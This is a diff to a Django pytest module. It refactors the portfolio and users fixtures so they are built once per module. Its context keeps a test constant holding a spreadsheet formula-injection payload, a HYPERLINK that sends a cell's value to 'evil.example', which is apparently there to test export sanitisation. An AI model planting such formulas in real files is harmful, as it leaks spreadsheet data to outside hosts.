@@ -32,6 +32,7 @@ from tests.factories import (
     governorate,
     user_with_role,
 )
+from tests.shared_data import built_for_module, for_test
 
 ARABIC_NAME = "إعادة تأهيل مركز صحي — كركوك"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -63,8 +64,7 @@ class IndicatorValueFactory(factory.django.DjangoModelFactory):
     computed_at = factory.LazyFunction(timezone.now)
 
 
-@pytest.fixture
-def portfolio(db):
+def build_portfolio() -> dict:
     usa = DonorFactory(name="USA", code="USA")
     canada = DonorFactory(name="Canada", code="CAN")
     crp = ProgrammeFactory(code="CRP", name="Community Revitalization Programme")
@@ -237,8 +237,18 @@ def portfolio(db):
     }
 
 
+@pytest.fixture(scope="module")
+def _portfolio_for_module(request, django_db_setup, django_db_blocker):
+    yield from built_for_module(request, django_db_blocker, build_portfolio)
+
+
 @pytest.fixture
-def users(portfolio):
+def portfolio(_portfolio_for_module, db) -> dict:
+    """``build_portfolio()``, built once for the module's tests (tests/shared_data.py)."""
+    return for_test(_portfolio_for_module, build_portfolio)
+
+
+def build_users(portfolio: dict) -> dict:
     """One user per role: an administrator, a manager of CRP (in scope of the
     Kirkuk data), a manager of another programme (out of scope of everything),
     the Kirkuk monitor, a USA donor and a user without a role."""
@@ -250,6 +260,19 @@ def users(portfolio):
         "donor": user_with_role("donor", username="donor", donor=portfolio["usa"]),
         "norole": UserFactory(username="norole"),
     }
+
+
+@pytest.fixture(scope="module")
+def _users_for_module(request, _portfolio_for_module, django_db_blocker):
+    yield from built_for_module(
+        request, django_db_blocker, lambda: build_users(_portfolio_for_module)
+    )
+
+
+@pytest.fixture
+def users(_users_for_module, portfolio) -> dict:
+    """``build_users()``, built once for the module's tests as the portfolio is."""
+    return for_test(_users_for_module, lambda: build_users(portfolio))
 
 
 def url(slug: str, fmt: str) -> str:
